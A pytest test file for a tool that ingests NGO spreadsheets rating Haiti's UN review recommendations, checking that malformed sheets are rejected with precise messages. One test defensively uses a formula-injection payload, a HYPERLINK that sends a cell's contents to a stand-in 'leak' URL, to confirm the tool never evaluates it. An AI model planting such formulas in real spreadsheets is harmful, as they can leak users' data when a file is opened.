"""Bad sheets: exit 1, the store untouched (bytes and rows), a message naming the place. Formulas stay text."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
from pathlib import Path

import pytest
from followup_fixtures import invoke

TABLES = ("stakeholders", "ingests", "assessments")


@pytest.fixture(scope="module")
def blank_sheet(export_store, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("sheet") / "HTI.xlsx"
    r = invoke("sheet", "HTI", "-o", str(path), "--db", str(export_store))
    assert r.exit_code == 0, r.output
    return path


def filled(blank: Path, dest: Path, levels: dict[int, str], *, sur: str | None = None, comments: dict[int, str] | None = None) -> Path:
    """A copy of the generated sheet with levels in the given data rows (0 = first recommendation)."""
    from openpyxl import load_workbook

    wb = load_workbook(blank)
    ws = wb.active
    ws["C4"] = "Collectif des ONG"
    ws["E4"] = "NGO"
    ws["E5"] = "2013-05-01"
    if sur:
        ws["C3"] = sur
    for k, word in levels.items():
        ws.cell(8 + k, 7, word)
    for k, text in (comments or {}).items():
        ws.cell(8 + k, 8, text)
    wb.save(dest)
    return dest


def snapshot(db: Path) -> tuple:
    """Checkpointed bytes of the store and its WAL, and the row counts."""
    con = sqlite3.connect(db)
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    con.close()
    return _hashes(db), _counts(db)


def _hashes(db: Path) -> tuple:
    return tuple(hashlib.sha256(p.read_bytes()).hexdigest() if p.exists() else None for p in (db, Path(f"{db}-wal")))


def _counts(db: Path) -> dict[str, int]:
    con = sqlite3.connect(db)
    out = {t: con.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in TABLES}
    con.close()
    return out


def assert_refused(db: Path, before: tuple, result, *fragments: str) -> None:
    assert result.exit_code == 1, result.output
    assert _hashes(db) == before[0], "the store's bytes changed"
    assert _counts(db) == before[1]
    for f in fragments:
        assert f in result.output, f"{f!r} not in:\n{result.output}"


def test_unknown_level_word(blank_sheet, export_store_copy, tmp_path):
    f = filled(blank_sheet, tmp_path / "ngo.xlsx", {0: "Fully implemented", 1: "Partially", 2: "Mostly done", 3: "ongoing"})
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r,
                   f"{f}, sheet 'Recommendations', row 10, cell G10, column 'G (Level of implementation)': unknown level 'Mostly done'",
                   "nothing ingested", "or pass --keep-valid to store the 3 rows without problems")


def test_unknown_level_json_lists_every_problem(blank_sheet, export_store_copy, tmp_path):
    f = filled(blank_sheet, tmp_path / "ngo.xlsx", {0: "Fully implemented", 2: "Mostly done", 5: "sort of"})
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--db", str(export_store_copy), "--format", "json")
    assert_refused(export_store_copy, before, r)
    payload = json.loads(r.stdout)
    assert [(p["row"], p["cell"], p["value"]) for p in payload["problems"]] == [(10, "G10", "Mostly done"), (13, "G13", "sort of")]


def test_keep_valid_stores_the_good_rows(blank_sheet, export_store_copy, tmp_path):
    f = filled(blank_sheet, tmp_path / "ngo.xlsx", {0: "Fully implemented", 1: "Not implemented", 2: "Mostly done"})
    r = invoke("ingest", str(f), "--keep-valid", "--db", str(export_store_copy), "--format", "json")
    assert r.exit_code == 0, r.output
    rep = json.loads(r.stdout)[0]
    assert rep["added"] == 2 and rep["problems"][0]["cell"] == "G10"
    assert _counts(export_store_copy)["assessments"] == 2


def test_date_before_the_review_is_stored_with_a_note(blank_sheet, export_store_copy, tmp_path):
    """HTI was reviewed at session 12 (2011): a sheet as of 2009 has a wrong date. Stored (the levels are fine), but
    the output says so, in the table and in JSON; a sheet dated after the review gets no note."""
    f = filled(blank_sheet, tmp_path / "ngo.xlsx", {0: "Fully implemented", 1: "Not implemented"})
    r = invoke("ingest", str(f), "--as-of", "2009-05-01", "--db", str(export_store_copy))
    assert r.exit_code == 0, r.output
    assert "added 2" in r.stderr
    assert "note: the assessment date 2009-05-01 is before the review it assesses (session 12, 2011)" in r.stderr
    later = filled(blank_sheet, tmp_path / "ngo2.xlsx", {0: "Partially implemented"})
    r = invoke("ingest", str(later), "--as-of", "2013-11-04", "--db", str(export_store_copy), "--format", "json")
    assert r.exit_code == 0, r.output
    assert json.loads(r.stdout)[0]["warnings"] == []


def test_reingest_reports_the_stored_date(blank_sheet, export_store_copy, tmp_path):
    """The same file again with another --as-of changes nothing, and the line shows the date that is stored."""
    f = filled(blank_sheet, tmp_path / "ngo.xlsx", {0: "Fully implemented"})
    assert invoke("ingest", str(f), "--as-of", "2013-11-04", "--db", str(export_store_copy)).exit_code == 0
    r = invoke("ingest", str(f), "--as-of", "2012-01-01", "--db", str(export_store_copy))
    assert r.exit_code == 0, r.output
    assert "as of 2013-11-04" in r.stderr and "already ingested, nothing to do" in r.stderr
    assert "2012-01-01" not in r.stderr


def test_sheet_for_another_state(blank_sheet, export_store_copy, tmp_path):
    f = filled(blank_sheet, tmp_path / "cuba.xlsx", {0: "Fully implemented", 1: "Partially", 2: "No data"}, sur="Cuba")
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r,
                   "sheet for another State: the sheet is for Cuba (CUB) (cell C3) but 3 of its IDs are recommendations to Haiti (HTI) (rows 8-10)")


def test_texts_of_another_state(export_store_copy, tmp_path):
    """No IDs, the sheet says Cuba, the texts are Haiti's."""
    con = sqlite3.connect(export_store_copy)
    texts = [r[0] for r in con.execute("SELECT text FROM recommendations WHERE sur = 'HTI' ORDER BY pk LIMIT 6")]
    con.close()
    f = tmp_path / "cuba.csv"
    with open(f, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["State under review", "Cuba"])
        w.writerow(["Recommendation", "Level"])
        for t in texts:
            w.writerow([t, "Partially"])
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--stakeholder", "X", "--type", "ngo", "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r,
                   "sheet for another State: the sheet is for Cuba (CUB) (cell B1) but its texts are recommendations to Haiti (HTI)")


def test_no_recognisable_header(export_store_copy, tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["Name", "Colour", "Size"])
    ws.append(["a", "b", "c"])
    f = tmp_path / "other.xlsx"
    wb.save(f)
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, f"{f}, sheet 'Sheet': no recognisable header: no header row in the first 2 rows")


def test_header_without_level_column(export_store_copy, tmp_path):
    f = tmp_path / "nolevel.csv"
    f.write_text("Title of the list\nRecommendation,Comment\nRatify the CRPD,done\n", encoding="utf-8")
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, "no recognisable header: row 2 looks like a header but has no column for the level of implementation")


def test_empty_file(export_store_copy, tmp_path):
    f = tmp_path / "empty.xlsx"
    f.write_bytes(b"")
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, f"{f}: the file is empty")


def test_corrupted_xlsx(blank_sheet, export_store_copy, tmp_path):
    f = tmp_path / "broken.xlsx"
    data = filled(blank_sheet, tmp_path / "ok.xlsx", {0: "Fully implemented"}).read_bytes()
    f.write_bytes(data[: len(data) // 2])
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, f"{f}:", "damaged or truncated")
    assert "--keep-valid" not in r.output  # nothing in an unreadable file to keep: the hint does not offer it


def test_one_bad_file_stops_all(blank_sheet, export_store_copy, tmp_path):
    good = filled(blank_sheet, tmp_path / "good.xlsx", {0: "Fully implemented"})
    bad = tmp_path / "empty.csv"
    bad.write_bytes(b"")
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(good), str(bad), "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, "1 problem in 1 of 2 files, nothing ingested", f"{bad}: the file is empty")
    assert "or pass --keep-valid to store the 1 row without problems" in r.output  # the good file's one row


def test_row_matching_two_recommendations(export_store_copy, tmp_path):
    """UPR Info lists a joint recommendation once per recommending State: the text alone names two."""
    con = sqlite3.connect(export_store_copy)
    sur, text, n = con.execute(
        "SELECT sur, text, count(*) FROM recommendations WHERE NOT is_pledge GROUP BY sur, text HAVING count(*) = 2 ORDER BY sur, text LIMIT 1"
    ).fetchone()
    ids = [r[0] for r in con.execute("SELECT id FROM recommendations WHERE sur = ? AND text = ? ORDER BY id", (sur, text))]
    con.close()
    f = tmp_path / "joint.csv"
    with open(f, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["State under review", "Recommendation", "Status", "Comment"])
        w.writerow([sur, text, "Partially", "some steps"])
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--stakeholder", "Watch", "--type", "ngo", "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, f"{f}, row 2, cell B2: the text matches 2 recommendations about equally: {ids[0]} (100) and {ids[1]} (100)",
                   "add the ID column, or the recommending State(s)")


def test_row_matching_nothing(blank_sheet, export_store_copy, tmp_path):
    f = tmp_path / "nothing.csv"
    f.write_text("State under review,Haiti\nRecommendation,Level\nBuild a space programme on the moon,Fully implemented\n", encoding="utf-8")
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--stakeholder", "W", "--type", "ngo", "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, f"{f}, row 3, cell A3: no recommendation matches the text 'Build a space programme on the moon'")


def test_formula_comment_is_stored_as_text(blank_sheet, export_store_copy, tmp_path):
    """'=HYPERLINK(' from a CSV and a real formula cell in an .xlsx: stored as text, never evaluated, written back as text."""
    formula = '=HYPERLINK("http://example.org/leak?d="&A8,"see the report")'
    xlsx = filled(blank_sheet, tmp_path / "f.xlsx", {0: "Fully implemented", 1: "Partially implemented"}, comments={0: formula})
    from openpyxl import load_workbook

    assert load_workbook(xlsx).active["H8"].data_type == "f"  # a real formula cell in the stakeholder's file
    r = invoke("ingest", str(xlsx), "--db", str(export_store_copy))
    assert r.exit_code == 0, r.output
    con = sqlite3.connect(export_store_copy)
    sheet_ids = [r[0] for r in con.execute("SELECT id FROM recommendations WHERE sur = 'HTI' ORDER BY session, pk LIMIT 3")]
    stored = con.execute("SELECT a.comment FROM assessments a JOIN recommendations r ON r.pk = a.rec_pk WHERE r.id = ?", (sheet_ids[0],)).fetchone()[0]
    assert stored == formula
    # a CSV whose comment starts with '=' (another stakeholder)
    csv_file = tmp_path / "f.csv"
    with open(csv_file, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["ID", "Level", "Comment", "Sources"])
        w.writerow([sheet_ids[2], "Not implemented", "=HYPERLINK(\"http://example.org\",\"x\")", "+33 1 23 45 67"])
    r = invoke("ingest", str(csv_file), "--stakeholder", "Other NGO", "--type", "ngo", "--db", str(export_store_copy))
    assert r.exit_code == 0, r.output
    got = con.execute("SELECT a.comment, a.sources FROM assessments a JOIN recommendations r ON r.pk = a.rec_pk WHERE r.id = ?", (sheet_ids[2],)).fetchone()
    assert got == ('=HYPERLINK("http://example.org","x")', "+33 1 23 45 67")
    con.close()
    # written back: the next round's sheet keeps it as text, with Excel's quote prefix
    again = tmp_path / "next.xlsx"
    r = invoke("sheet", "HTI", "-o", str(again), "--prefill", "Collectif des ONG", "--db", str(export_store_copy))
    assert r.exit_code == 0, r.output
    ws = load_workbook(again).active
    assert ws["H8"].value == formula and ws["H8"].data_type == "s" and ws["H8"].quotePrefix
    assert ws["G8"].value == "Fully implemented" and ws["C4"].value == "Collectif des ONG"
    # and the status CSV export neutralises it
    r = invoke("status", "HTI", "--format", "csv", "--db", str(export_store_copy))
    assert r.exit_code == 0
    rows = list(csv.DictReader(r.stdout.splitlines()))
    comments = {row["comment"] for row in rows}
    assert "'" + formula in comments and formula not in comments
    # JSON keeps the exact text
    r = invoke("status", "HTI", "--format", "json", "--db", str(export_store_copy))
    voices = [v for s in json.loads(r.stdout) for v in s["voices"]]
    assert formula in {v["comment"] for v in voices}


def test_id_and_text_out_of_line(export_store_copy, tmp_path):
    """An ID whose row carries another recommendation's text (rows sorted column by column) is reported."""
    con = sqlite3.connect(export_store_copy)
    recs = con.execute("SELECT id, text FROM recommendations WHERE sur = 'HTI' ORDER BY pk LIMIT 6").fetchall()
    con.close()
    f = tmp_path / "sorted.csv"
    with open(f, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["ID", "Recommendation", "Level"])
        w.writerow([recs[0][0], recs[0][1], "Partially"])
        w.writerow([recs[1][0], recs[5][1], "Partially"])
    before = snapshot(export_store_copy)
    r = invoke("ingest", str(f), "--stakeholder", "W", "--type", "ngo", "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, f"{f}, row 3, cell A3: the id '{recs[1][0]}' is {recs[1][0]} but the text is that of {recs[5][0]}")


@pytest.mark.parametrize("lang", ["en", "fr"])
@pytest.mark.parametrize("as_csv", [False, True])
def test_import_of_a_response_sheet_points_to_ingest(export_store_copy, tmp_path, lang, as_csv):
    """A newcomer imports the response sheet instead of ingesting it (even with --sur, as the first error said):
    refused, store unchanged, and the hint names `upr ingest` (it used to add every recommendation again)."""
    import csv

    from openpyxl import load_workbook

    sheet = tmp_path / f"HTI-{lang}.xlsx"
    assert invoke("sheet", "HTI", "--lang", lang, "-o", str(sheet), "--db", str(export_store_copy)).exit_code == 0
    path = sheet
    if as_csv:  # the same sheet saved as CSV by a spreadsheet
        path = tmp_path / f"HTI-{lang}.csv"
        ws = load_workbook(sheet).active
        with open(path, "w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows([["" if v is None else v for v in row] for row in ws.iter_rows(values_only=True)])
    before = snapshot(export_store_copy)
    r = invoke("import", str(path), "--sur", "HTI", "--db", str(export_store_copy))
    assert_refused(export_store_copy, before, r, f"{path}: a response sheet", "nothing imported", f"upr ingest {path}")
